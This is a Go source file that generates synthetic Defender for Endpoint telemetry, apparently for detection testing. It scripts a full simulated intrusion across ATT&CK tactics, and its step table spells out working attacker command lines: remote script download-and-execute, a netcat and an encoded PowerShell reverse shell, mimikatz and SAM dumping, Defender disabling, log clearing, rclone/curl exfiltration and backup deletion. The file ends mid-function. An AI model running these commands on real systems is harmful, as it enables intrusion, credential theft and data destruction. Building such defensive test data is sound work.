package telemetry

import (
	"strings"
	"time"
)

// Intrusions across the ATT&CK tactics, written from the techniques' procedure examples and data sources:
// each step is the program an operator runs, with the command line the technique uses, and the traces it
// leaves in the tables its data sources name (process creation, file, registry, network, DeviceEvents).
// Steps play in order on one device under the intrusion's foothold process, minutes apart, and each
// tactic raises an alert whose evidence points at the step's process.

// trace is one side effect of a step.
type trace struct {
	table  string // "file", "reg", "net", "event"
	action string
	// file: path and size; reg: key, value name, data; net: host, ip, port; event: AdditionalFields.
	a, b, c string
	n       int64
}

// step is one procedure of an intrusion.
type step struct {
	tactic, technique string // "Execution", "Mshta (T1218.005)"
	image             string // a catalog program, or an attacker tool of attackerTools()
	parent            string // "shell" (the operator's cmd), "ps" (the operator's PowerShell), "foothold", "wmi", "services", "office", "explorer"
	cmd               string
	traces            []trace
}

// techniqueAlerts are the Defender for Endpoint alerts that single techniques raise on their own, by title.
func techniqueAlerts() map[string]string {
	return map[string]string{
		"Mshta (T1218.005)":    "Suspicious mshta process launched",
		"Regsvr32 (T1218.010)": "Suspicious Regsvr32 activity",
		"Image File Execution Options Injection (T1546.012)": "Sticky Keys binary hijack detected",
		"WMI Event Subscription (T1546.003)":                 "Suspicious WMI event subscription created",
		"Bypass User Account Control (T1548.002)":            "UAC bypass was detected",
		"Clear Windows Event Logs (T1070.001)":               "Event log was cleared",
		"Disable or Modify Tools (T1562.001)":                "Attempt to turn off Microsoft Defender Antivirus protection",
		"LSASS Memory (T1003.001)":                           "Mimikatz credential theft tool",
		"Kerberoasting (T1558.003)":                          "Kerberoasting activity",
		"Security Account Manager (T1003.002)":               "Suspicious registry export of the SAM hive",
		"Masquerading (T1036.005)":                           "Suspicious process masquerading as a system process",
		"Exfiltration to Cloud Storage (T1567.002)":          "Possible data exfiltration using Rclone",
		"Remote Access Software (T1219)":                     "Suspicious remote access software installed",
		"Protocol Tunneling (T1572)":                         "Suspicious SSH tunneling activity",
		"Inhibit System Recovery (T1490)":                    "File backups were deleted",
		"Account Discovery (T1087)":                          "SharpHound Active Directory reconnaissance",
		"Scheduled Task (T1053.005)":                         "Suspicious Task Scheduler activity",
		"Windows Service (T1543.003)":                        "Suspicious service registration",
	}
}

func tFile(action, path string, size int64) trace {
	return trace{table: "file", action: action, a: path, n: size}
}
func tFileFrom(path, url string, size int64) trace {
	return trace{table: "file", action: "FileCreated", a: path, b: url, n: size}
}
func tReg(action, key, name, data string) trace {
	return trace{table: "reg", action: action, a: key, b: name, c: data}
}
func tNet(host, ip string, port int64) trace { return trace{table: "net", a: host, b: ip, n: port} }
func tEvent(action, add string) trace        { return trace{table: "event", action: action, c: add} }

// attackerTools are the programs intrusions bring: unsigned or renamed, in user-writable folders.
func attackerTools() map[string]exe {
	pub, tmp, pd := `C:\Users\Public`, `C:\Windows\Temp`, `C:\ProgramData`
	return map[string]exe{
		"mimikatz.exe":        {"mimikatz.exe", tmp, "gentilkiwi (Benjamin DELPY)", "mimikatz", "2.2.0.0", "mimikatz for Windows", "", 1_355_680},
		"Rubeus.exe":          {"Rubeus.exe", pub, "", "Rubeus", "1.0.0.0", "Rubeus", "", 446_976},
		"SharpHound.exe":      {"SharpHound.exe", pub, "", "SharpHound", "2.3.0.0", "SharpHound", "", 1_052_160},
		"AdFind.exe":          {"AdFind.exe", pub, "joe@joeware.net", "AdFind", "1.57.0.0", "Joeware ADFind", "", 1_642_496},
		"rclone.exe":          {"rclone.exe", pd + `\syncsvc`, "https://rclone.org", "Rclone", "1.66.0", "Rsync for cloud storage", "", 52_843_008},
		"plink.exe":           {"plink.exe", pub, "Simon Tatham", "PuTTY suite", "0.80.0.0", "Command-line SSH, Telnet, and Rlogin client", "ThirdParty", 853_456},
		"ngrok.exe":           {"ngrok.exe", pd, "", "ngrok", "3.6.0", "ngrok", "", 24_805_376},
		"AnyDeskPortable.exe": {"AnyDesk.exe", pd + `\AnyDesk`, "philandro Software GmbH", "AnyDesk", "8.0.8", "AnyDesk", "ThirdParty", 5_202_240},
		"svchost.exe (masq)":  {"svchost.exe", pub + `\Libraries`, "", "", "", "", "", 287_232},
		"PsExec64.exe":        {"PsExec64.exe", tmp, "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "2.43", "Execute processes remotely", "ThirdParty", 833_472},
		"beacon.dll":          {"update.dll", pd + `\Microsoft\Crypto`, "", "", "", "", "", 299_008},
		"nc64.exe":            {"nc64.exe", pub, "", "", "1.12", "", "", 45_272},
		"lazagne.exe":         {"lazagne.exe", tmp, "", "", "2.4.5", "", "", 9_410_142},
		"wevtutil.exe":        {"wevtutil.exe", s32, msCorp, winOS, "10.0.22621.1", "Eventing Command Line Utility", "OsVendor", 229_376},
		"xmrig":               {"kworkerds", "/tmp/.X11-unix", "", "", "", "", "", 7_340_032},
	}
}

// intrusion is one campaign: where it plays, who runs it and its steps.
type intrusion struct {
	name     string
	dev      *device
	acct     *account
	foothold *proc
	start    int64
	gap      time.Duration
	steps    []step
}

// workstationIntrusion: a user opens an ISO from a lure, and an operator works through every tactic on the
// workstation, the domain controller's data and the cloud.
func workstationSteps(u *account, dc *device) []step {
	prof := `C:\Users\` + u.profile
	return []step{
		// Initial access and execution.
		{"InitialAccess", "Spearphishing Attachment (T1566.001)", "explorer.exe", "explorer", `C:\Windows\Explorer.EXE /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding`, []trace{tFileFrom(prof+`\Downloads\Shipping_Documents.iso`, "https://files-transfer.example/d/Shipping_Documents.iso", 2_097_152), tFile("FileCreated", `E:\Shipping_Documents.lnk`, 2_338)}},
		{"Execution", "Malicious File (T1204.002)", "rundll32.exe", "explorer", `"C:\Windows\System32\rundll32.exe" E:\docs\invoice.dll,DllRegisterServer`, []trace{tNet("files-transfer.example", "198.51.100.40", 443)}},
		{"Execution", "Mshta (T1218.005)", "mshta.exe", "foothold", `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -c iex(iwr http://198.51.100.23/s.ps1 -UseBasicParsing)"":close")`, []trace{tNet("198.51.100.23", "198.51.100.23", 80)}},
		{"Execution", "PowerShell (T1059.001)", "powershell.exe", "foothold", `powershell.exe -nop -w hidden -c "iex(iwr http://198.51.100.23/s.ps1 -UseBasicParsing)"`, []trace{tNet("198.51.100.23", "198.51.100.23", 80), tEvent("PowerShellCommand", `{"Command":"Invoke-WebRequest"}`)}},
		{"Execution", "Regsvr32 (T1218.010)", "regsvr32.exe", "ps", `regsvr32.exe /s /n /u /i:http://198.51.100.23/file.sct scrobj.dll`, []trace{tNet("198.51.100.23", "198.51.100.23", 80)}},
		{"Execution", "Windows Command Shell (T1059.003)", "cmd.exe", "ps", `cmd.exe /c "C:\ProgramData\Microsoft\Crypto\run.bat"`, []trace{tFile("FileCreated", `C:\ProgramData\Microsoft\Crypto\run.bat`, 312)}},
		{"Execution", "Visual Basic (T1059.005)", "wscript.exe", "shell", `wscript.exe //B //E:vbscript C:\Users\Public\Documents\update.vbs`, []trace{tFile("FileCreated", `C:\Users\Public\Documents\update.vbs`, 1_988)}},
		{"Execution", "JavaScript (T1059.007)", "cscript.exe", "shell", `cscript.exe //nologo C:\Users\Public\Documents\stage.js`, []trace{tFile("FileCreated", `C:\Users\Public\Documents\stage.js`, 4_210)}},
		{"Execution", "Windows Management Instrumentation (T1047)", "WMIC.exe", "shell", `wmic process call create "rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start"`, nil},
		{"Execution", "Rundll32 (T1218.011)", "rundll32.exe", "wmi", `rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start`, []trace{tFile("FileCreated", `C:\ProgramData\Microsoft\Crypto\update.dll`, 299_008), tNet("cdn-update.northwind-sync.example", "198.51.100.23", 443)}},
		{"CommandAndControl", "Ingress Tool Transfer (T1105)", "bitsadmin.exe", "shell", `bitsadmin /transfer job1 /download /priority high http://198.51.100.23/t.exe C:\Users\Public\t.exe`, []trace{tNet("198.51.100.23", "198.51.100.23", 80), tFileFrom(`C:\Users\Public\t.exe`, "http://198.51.100.23/t.exe", 52_224)}},
		{"CommandAndControl", "Ingress Tool Transfer (T1105)", "certutil.exe", "shell", `certutil.exe -urlcache -f http://198.51.100.23/AdFind.exe C:\Users\Public\AdFind.exe`, []trace{tNet("198.51.100.23", "198.51.100.23", 80), tFileFrom(`C:\Users\Public\AdFind.exe`, "http://198.51.100.23/AdFind.exe", 1_642_496)}},
		{"DefenseEvasion", "Deobfuscate/Decode Files (T1140)", "certutil.exe", "shell", `certutil -decode C:\Users\Public\b64.txt C:\Users\Public\nc64.exe`, []trace{tFile("FileCreated", `C:\Users\Public\nc64.exe`, 45_272)}},
		{"CommandAndControl", "Protocol Tunneling (T1572)", "plink.exe", "shell", `plink.exe -ssh -P 443 -l tunnel -pw ******** -R 127.0.0.1:3390:127.0.0.1:3389 198.51.100.99`, []trace{tNet("198.51.100.99", "198.51.100.99", 443)}},
		{"CommandAndControl", "Remote Access Software (T1219)", "AnyDeskPortable.exe", "shell", `"C:\ProgramData\AnyDesk\AnyDesk.exe" --install C:\ProgramData\AnyDesk --start-with-win --silent`, []trace{tNet("relay-4c1e7a2b.net.anydesk.com", "195.181.174.243", 443)}},
		{"CommandAndControl", "Non-Standard Port (T1571)", "nc64.exe", "shell", `C:\Users\Public\nc64.exe 198.51.100.23 4444 -e cmd.exe`, []trace{tNet("198.51.100.23", "198.51.100.23", 4444)}},
		// Persistence.
		{"Persistence", "Registry Run Keys (T1547.001)", "reg.exe", "shell", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v SecurityUpdate /t REG_SZ /d "rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start" /f`, []trace{tReg("RegistryValueSet", `HKEY_CURRENT_USER\`+u.sid+`\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "SecurityUpdate", `rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start`)}},
		{"Persistence", "Scheduled Task (T1053.005)", "schtasks.exe", "shell", `schtasks /create /tn "\Microsoft\Windows\Maintenance\WinUpdateCheck" /tr "rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start" /sc minute /mo 30 /ru SYSTEM /f`, []trace{tEvent("ScheduledTaskCreated", `{"TaskName":"\\Microsoft\\Windows\\Maintenance\\WinUpdateCheck","TaskContent":"rundll32.exe C:\\ProgramData\\Microsoft\\Crypto\\update.dll,Start"}`), tReg("RegistryKeyCreated", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\Maintenance\WinUpdateCheck`, "", "")}},
		{"Persistence", "Windows Service (T1543.003)", "sc.exe", "shell", `sc create WinDefendUpdate binPath= "C:\ProgramData\Microsoft\Crypto\svc.exe" start= auto DisplayName= "Windows Defender Update"`, []trace{tReg("RegistryValueSet", `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinDefendUpdate`, "ImagePath", `C:\ProgramData\Microsoft\Crypto\svc.exe`), tEvent("ServiceInstalled", `{"ServiceName":"WinDefendUpdate","ServiceAccount":"LocalSystem","ServiceStartType":2,"ServiceType":16}`)}},
		{"Persistence", "WMI Event Subscription (T1546.003)", "powershell.exe", "ps", `powershell.exe -c "$f=Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{Name='Updater';EventNamespace='root\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA ''Win32_PerfFormattedData_PerfOS_System'''}; $c=Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='Updater';CommandLineTemplate='rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Start'}; Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$f;Consumer=$c}"`, []trace{tEvent("WmiBindEventFilterToConsumer", `{"Namespace":"root\\subscription","ESS":"root\\cimv2","Consumer":"CommandLineEventConsumer.Name=\"Updater\"","PossibleCause":"Binding EventFilter: instance of __EventFilter { EventNamespace = \"root\\cimv2\"; Name = \"Updater\"; }"}`)}},
		{"Persistence", "Startup Folder (T1547.001)", "cmd.exe", "shell", `cmd.exe /c copy C:\Users\Public\t.exe "` + prof + `\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\OneDriveSync.exe"`, []trace{tFile("FileCreated", prof+`\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\OneDriveSync.exe`, 52_224)}},
		{"Persistence", "Image File Execution Options Injection (T1546.012)", "reg.exe", "shell", `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\Windows\System32\cmd.exe" /f`, []trace{tReg("RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`, "Debugger", `C:\Windows\System32\cmd.exe`)}},
		{"Persistence", "Local Account (T1136.001)", "net.exe", "shell", `net user support_tmp Winter2026! /add`, []trace{tEvent("UserAccountCreated", "")}},
		{"Persistence", "Remote Access Software (T1219)", "reg.exe", "shell", `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`, []trace{tReg("RegistryValueSet", `HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Terminal Server`, "fDenyTSConnections", "0")}},
		// Privilege escalation.
		{"PrivilegeEscalation", "Bypass User Account Control (T1548.002)", "reg.exe", "shell", `reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /d "C:\Users\Public\t.exe" /f`, []trace{tReg("RegistryValueSet", `HKEY_CURRENT_USER\`+u.sid+`_Classes\ms-settings\Shell\Open\command`, "(Default)", `C:\Users\Public\t.exe`), tReg("RegistryValueSet", `HKEY_CURRENT_USER\`+u.sid+`_Classes\ms-settings\Shell\Open\command`, "DelegateExecute", "")}},
		{"PrivilegeEscalation", "Bypass User Account Control (T1548.002)", "fodhelper.exe", "shell", `C:\Windows\System32\fodhelper.exe`, nil},
		{"PrivilegeEscalation", "Access Token Manipulation (T1134)", "t.exe", "fodhelper", `C:\Users\Public\t.exe`, []trace{tEvent("ProcessPrimaryTokenModified", `{"OriginalTokenIntegrityLevelName":"Medium","CurrentTokenIntegrityLevelName":"System","TokenModificationProperties":"TokenChangeDescription: Privileges were added"}`)}},
		{"PrivilegeEscalation", "Local Accounts (T1078.003)", "net.exe", "shell", `net localgroup administrators support_tmp /add`, []trace{tEvent("UserAccountAddedToLocalGroup", `{"GroupName":"Administrators","GroupDomainName":"BUILTIN","GroupSid":"S-1-5-32-544"}`)}},
		// Defense evasion.
		{"DefenseEvasion", "Disable or Modify Tools (T1562.001)", "powershell.exe", "ps", `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true`, []trace{tEvent("TamperingAttempt", `{"TamperingAction":"RegistryModification","Status":"Blocked","Target":"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring","OriginalValue":"0","TargetValue":"1"}`)}},
		{"DefenseEvasion", "Disable or Modify Tools (T1562.001)", "powershell.exe", "ps", `powershell.exe Add-MpPreference -ExclusionPath C:\ProgramData\Microsoft\Crypto -ExclusionExtension .dll`, []trace{tReg("RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`, `C:\ProgramData\Microsoft\Crypto`, "0")}},
		{"DefenseEvasion", "Disable or Modify Tools (T1562.001)", "reg.exe", "shell", `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`, []trace{tReg("RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", "1")}},
		{"DefenseEvasion", "Disable or Modify System Firewall (T1562.004)", "netsh.exe", "shell", `netsh advfirewall set allprofiles state off`, []trace{tEvent("FirewallServiceStopped", "")}},
		{"DefenseEvasion", "Clear Windows Event Logs (T1070.001)", "wevtutil.exe", "shell", `wevtutil cl System`, []trace{tEvent("SecurityLogCleared", "")}},
		{"DefenseEvasion", "Clear Windows Event Logs (T1070.001)", "wevtutil.exe", "shell", `wevtutil cl Security`, []trace{tEvent("SecurityLogCleared", "")}},
		{"DefenseEvasion", "Indicator Removal: File Deletion (T1070.004)", "cmd.exe", "shell", `cmd.exe /c del /f /q C:\Users\Public\b64.txt C:\Users\Public\t.exe`, []trace{tFile("FileDeleted", `C:\Users\Public\b64.txt`, 60_416), tFile("FileDeleted", `C:\Users\Public\t.exe`, 52_224)}},
		{"DefenseEvasion", "Timestomp (T1070.006)", "powershell.exe", "ps", `powershell.exe -c "(Get-Item C:\ProgramData\Microsoft\Crypto\update.dll).LastWriteTime='01/12/2021 08:14:00'"`, []trace{tEvent("FileTimestampModified", `{"FileName":"update.dll"}`)}},
		{"DefenseEvasion", "Masquerading (T1036.005)", "svchost.exe (masq)", "shell", `C:\Users\Public\Libraries\svchost.exe -k netsvcs`, []trace{tFile("FileCreated", `C:\Users\Public\Libraries\svchost.exe`, 287_232), tNet("cdn-update.northwind-sync.example", "198.51.100.23", 443)}},
		{"DefenseEvasion", "Hidden Files and Directories (T1564.001)", "attrib.exe", "shell", `attrib +h +s C:\ProgramData\Microsoft\Crypto\update.dll`, nil},
		{"DefenseEvasion", "Obfuscated Files or Information (T1027)", "powershell.exe", "ps", `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ` + encodedCommand(`$c=New-Object System.Net.Sockets.TCPClient('198.51.100.23',443);$s=$c.GetStream()`), []trace{tNet("198.51.100.23", "198.51.100.23", 443), tEvent("AmsiScriptDetection", `{"Description":"Obfuscated PowerShell reverse shell"}`)}},
		{"DefenseEvasion", "Process Injection (T1055)", "rundll32.exe", "wmi", `rundll32.exe`, []trace{tEvent("CreateRemoteThreadApiCall", `{"TargetProcess":"explorer.exe"}`), tEvent("WriteProcessMemoryApiCall", `{"TargetProcess":"explorer.exe"}`)}},
		// Credential access.
		{"CredentialAccess", "LSASS Memory (T1003.001)", "mimikatz.exe", "shell", `C:\Windows\Temp\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, []trace{tEvent("OpenProcessApiCall", `{"DesiredAccess":4112}`), tFile("FileCreated", `C:\Windows\Temp\mimikatz.exe`, 1_355_680)}},
		{"CredentialAccess", "Security Account Manager (T1003.002)", "reg.exe", "shell", `reg save HKLM\SAM C:\Windows\Temp\sam.save`, []trace{tFile("FileCreated", `C:\Windows\Temp\sam.save`, 65_536)}},
		{"CredentialAccess", "Security Account Manager (T1003.002)", "reg.exe", "shell", `reg save HKLM\SYSTEM C:\Windows\Temp\system.save`, []trace{tFile("FileCreated", `C:\Windows\Temp\system.save`, 17_825_792)}},
		{"CredentialAccess", "Kerberoasting (T1558.003)", "Rubeus.exe", "shell", `C:\Users\Public\Rubeus.exe kerberoast /outfile:C:\Users\Public\hashes.txt /rc4opsec`, []trace{tNet(dc.name, dc.ip, 88), tFile("FileCreated", `C:\Users\Public\hashes.txt`, 8_812), tEvent("LdapSearch", `{"SearchFilter":"(&(samAccountType=805306368)(servicePrincipalName=*))","AttributeList":["servicePrincipalName","samAccountName"],"ScopeOfSearch":"WholeSubtree","DistinguishedName":"DC=contoso,DC=example"}`)}},
		{"CredentialAccess", "Credentials from Web Browsers (T1555.003)", "lazagne.exe", "shell", `C:\Windows\Temp\lazagne.exe browsers -oN -output C:\Windows\Temp`, []trace{tEvent("SensitiveFileRead", `{"FileName":"Login Data"}`), tEvent("DpapiAccessed", `{"DataDescription":"Google Chrome","OperationType":"SPCryptUnprotect"}`)}},
		{"CredentialAccess", "Credentials In Files (T1552.001)", "findstr.exe", "shell", `findstr /si password *.xml *.ini *.txt *.config`, nil},
		{"CredentialAccess", "Credential Manager (T1555.004)", "cmdkey.exe", "shell", `cmdkey /list`, nil},
		// Discovery.
		{"Discovery", "System Owner/User Discovery (T1033)", "whoami.exe", "shell", `whoami /all`, nil},
		{"Discovery", "System Information Discovery (T1082)", "systeminfo.exe", "shell", `systeminfo`, nil},
		{"Discovery", "System Network Configuration Discovery (T1016)", "ipconfig.exe", "shell", `ipconfig /all`, nil},
		{"Discovery", "System Network Connections Discovery (T1049)", "NETSTAT.EXE", "shell", `netstat -ano`, nil},
		{"Discovery", "Remote System Discovery (T1018)", "nltest.exe", "shell", `nltest /dclist:contoso.example`, []trace{tNet(dc.name, dc.ip, 389)}},
		{"Discovery", "Domain Trust Discovery (T1482)", "nltest.exe", "shell", `nltest /domain_trusts /all_trusts`, []trace{tNet(dc.name, dc.ip, 389)}},
		{"Discovery", "Domain Account Discovery (T1087.002)", "net.exe", "shell", `net user /domain`, []trace{tNet(dc.name, dc.ip, 445)}},
		{"Discovery", "Domain Groups (T1069.002)", "net.exe", "shell", `net group "Domain Admins" /domain`, []trace{tNet(dc.name, dc.ip, 445)}},
		{"Discovery", "Domain Groups (T1069.002)", "net.exe", "shell", `net group "Enterprise Admins" /domain`, nil},
		{"Discovery", "Local Groups (T1069.001)", "net.exe", "shell", `net localgroup administrators`, nil},
		{"Discovery", "Remote System Discovery (T1018)", "AdFind.exe", "shell", `C:\Users\Public\AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem > C:\Users\Public\ad_computers.txt`, []trace{tNet(dc.name, dc.ip, 389), tFile("FileCreated", `C:\Users\Public\ad_computers.txt`, 31_220)}},
		{"Discovery", "Domain Account Discovery (T1087.002)", "AdFind.exe", "shell", `C:\Users\Public\AdFind.exe -f "(objectcategory=person)" > C:\Users\Public\ad_users.txt`, []trace{tNet(dc.name, dc.ip, 389)}},
		{"Discovery", "Domain Trust Discovery (T1482)", "AdFind.exe", "shell", `C:\Users\Public\AdFind.exe -gcb -sc trustdmp`, []trace{tNet(dc.name, dc.ip, 3268)}},
		{"Discovery", "Account Discovery (T1087)", "SharpHound.exe", "shell", `C:\Users\Public\SharpHound.exe -c All --zipfilename loot.zip`, []trace{tNet(dc.name, dc.ip, 389), tNet(dc.name, dc.ip, 445), tFile("FileCreated", `C:\Users\Public\20260310_loot.zip`, 1_204_112)}},
		{"Discovery", "Network Share Discovery (T1135)", "net.exe", "shell", `net view \\srv-file01.contoso.example /all`, nil},
		{"Discovery", "Process Discovery (T1057)", "tasklist.exe", "shell", `tasklist /v`, nil},
		{"Discovery", "Security Software Discovery (T1518.001)", "WMIC.exe", "shell", `wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct get displayName,productState`, nil},
		{"Discovery", "Query Registry (T1012)", "reg.exe", "shell", `reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"`, nil},
		{"Discovery", "Permission Groups Discovery (T1069)", "powershell.exe", "ps", `powershell.exe -c "Get-ADGroupMember -Identity 'Domain Admins' | Select-Object SamAccountName"`, []trace{tNet(dc.name, dc.ip, 9389)}},
		{"Discovery", "Network Service Discovery (T1046)", "powershell.exe", "ps", `powershell.exe -c "1..254 | % { Test-NetConnection -ComputerName 10.0.0.$_ -Port 445 -InformationLevel Quiet }"`, []trace{tNet("", "10.0.0.12", 445), tNet("", "10.0.0.13", 445), tNet("", "10.0.0.14", 445)}},
		// Collection and exfiltration.
		{"Collection", "Archive via Utility (T1560.001)", "7z.exe", "shell", `"C:\Program Files\7-Zip\7z.exe" a -tzip -pInfected2026 -mhe=on C:\ProgramData\syncsvc\data.zip ` + prof + `\Documents\*`, []trace{tFile("FileCreated", `C:\ProgramData\syncsvc\data.zip`, 184_221_696)}},
		{"Collection", "Local Data Staging (T1074.001)", "Robocopy.exe", "shell", `robocopy \\srv-file01.contoso.example\Shares\Finance C:\ProgramData\syncsvc\stage /E /R:0 /W:0`, []trace{tNet("srv-file01.contoso.example", "@file", 445)}},
		{"Collection", "Screen Capture (T1113)", "powershell.exe", "ps", `powershell.exe -c "Add-Type -AssemblyName System.Windows.Forms; [Windows.Forms.Screen]::PrimaryScreen"`, []trace{tEvent("ScreenshotTaken", "")}},
		{"Collection", "Clipboard Data (T1115)", "powershell.exe", "ps", `powershell.exe -c Get-Clipboard`, []trace{tEvent("GetClipboardData", "")}},
		{"Collection", "Keylogging (T1056.001)", "rundll32.exe", "wmi", `rundll32.exe C:\ProgramData\Microsoft\Crypto\update.dll,Klg`, []trace{tEvent("GetAsyncKeyStateApiCall", "")}},
		{"Exfiltration", "Exfiltration to Cloud Storage (T1567.002)", "rclone.exe", "shell", `C:\ProgramData\syncsvc\rclone.exe copy C:\ProgramData\syncsvc\data.zip mega:backup --config C:\ProgramData\syncsvc\rclone.conf -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12`, []trace{tNet("g.api.mega.co.nz", "89.44.169.135", 443), tNet("gfs270n396.userstorage.mega.co.nz", "89.44.169.140", 443)}},
		{"Exfiltration", "Exfiltration Over Web Service (T1567)", "curl.exe", "shell", `curl.exe -F "file=@C:\ProgramData\syncsvc\data.zip" https://transfer.sh/upload`, []trace{tNet("transfer.sh", "144.76.136.153", 443)}},
		{"CommandAndControl", "Web Protocols (T1071.001)", "ngrok.exe", "shell", `C:\ProgramData\ngrok.exe tcp 3389 --authtoken 2aB3cD4eF5gH6iJ7kL8mN9oP0q_1r2S3t4U5v6W7x8Y9z`, []trace{tNet("tunnel.us.ngrok.com", "3.134.73.173", 443)}},
		// Impact.
		{"Impact", "Inhibit System Recovery (T1490)", "vssadmin.exe", "shell", `vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB`, nil},
		{"Impact", "Inhibit System Recovery (T1490)", "wbadmin.exe", "shell", `wbadmin delete catalog -quiet`, nil},
		{"Impact", "Inhibit System Recovery (T1490)", "bcdedit.exe", "shell", `bcdedit /set {default} bootstatuspolicy ignoreallfailures`, nil},
		{"Impact", "Service Stop (T1489)", "net.exe", "shell", `net stop "SQL Server (MSSQLSERVER)" /y`, nil},
		{"Impact", "Service Stop (T1489)", "taskkill.exe", "shell", `taskkill /f /im sqlservr.exe`, nil},
		{"Impact", "Account Access Removal (T1531)", "net.exe", "shell", `net user helpdesk NewPass!2026 /domain`, nil},
	}
}

// playIntrusion runs steps on the intrusion's device: the operator's shells hang off the foothold, and every
// step's process is evidence of its tactic's alert.
func (g *generator) playIntrusion(in *intrusion) {
	d, u := in.dev, in.acct
	tools, at := attackerTools(), in.start
	t := func() int64 { at += int64(in.gap) + g.activity.Int64N(int64(in.gap)); return at }
	shell := g.spawn(d, in.foothold, iCmd, `cmd.exe /c`, u, t())
	ps := g.spawn(d, in.foothold, iPowershell, `powershell.exe -nop -w hidden -ep bypass`, u, t())
	wmi := g.newProc(d, d.svchost[0], iWmiPrvSE, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, g.w.netSvc, in.start-int64(hour))
	explorer := g.sessionProc(d, in.start)
	var fodhelper *proc
	byTactic := map[string][]evidence{}
	var order []string
	techniques := map[string][]string{}
	alerts, raised := techniqueAlerts(), map[string]bool{}
	for _, s := range in.steps {
		ts := t()
		parent := shell
		switch s.parent {
		case "ps":
			parent = ps
		case "foothold":
			parent = in.foothold
		case "wmi":
			parent = wmi
		case "explorer":
			parent = explorer
		case "fodhelper":
			if fodhelper != nil {
				parent = fodhelper
			}
		}
		img := g.stepImage(d, s.image, tools)
		p := g.spawnImage(d, parent, img, s.cmd, u, ts)
		if s.image == "fodhelper.exe" {
			p.integrity, p.elevation = "High", "TokenElevationTypeFull"
			fodhelper = p
		}
		for i, tr := range s.traces {
			g.stepTrace(d, p, ts+int64(i+1)*int64(sec), tr, u)
		}
		if _, seen := byTactic[s.tactic]; !seen {
			order = append(order, s.tactic)
			byTactic[s.tactic] = []evidence{{entityType: "Machine", role: "Impacted", dev: d}, {entityType: "User", role: "Impacted", dev: d, acct: u}}
		}
		if len(byTactic[s.tactic]) < 8 {
			byTactic[s.tactic] = append(byTactic[s.tactic], evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
		}
		if title, ok := alerts[s.technique]; ok && !raised[title] {
			raised[title] = true
			g.raise(ts+int64(30*sec), srcMDE, "EDR", title, s.tactic, "Medium", []string{s.technique},
				evidence{entityType: "Machine", role: "Impacted", dev: d}, evidence{entityType: "User", role: "Related", dev: d, acct: u},
				evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
		}
		if !containsStr(techniques[s.tactic], s.technique) {
			techniques[s.tactic] = append(techniques[s.tactic], s.technique)
		}
	}
	for i, tac := range order {
		ev := byTactic[tac]
		last := ev[len(ev)-1].proc
		g.raise(last.created+int64(2*mins)+int64(i)*int64(sec), srcMDE, "EDR", in.name+": "+tacticTitle(tac), tac, tacticSeverity(tac), techniques[tac], ev...)
	}
}

func containsStr(xs []string, s string) bool {
	for _, x := range xs {
		if x == s {
			return true
		}
	}
	return false
}

func tacticTitle(t string) string {
	return map[string]string{
		"InitialAccess": "Suspicious file opened from a mounted disk image", "Execution": "Suspicious living-off-the-land binary execution",
		"Persistence": "Suspicious persistence mechanism created", "PrivilegeEscalation": "User Account Control bypass attempt",
		"DefenseEvasion": "Attempt to disable Microsoft Defender and clear logs", "CredentialAccess": "Credential theft activity",
		"Discovery": "Active Directory reconnaissance", "LateralMovement": "Lateral movement using remote execution",
		"Collection": "Data staged and archived for exfiltration", "Exfiltration": "Possible data exfiltration to cloud storage",
		"CommandAndControl": "Connection to a remote access or tunneling tool", "Impact": "Attempt to inhibit system recovery",
	}[t]
}

func tacticSeverity(t string) string {
	switch t {
	case "CredentialAccess", "Impact", "Exfiltration", "DefenseEvasion":
		return "High"
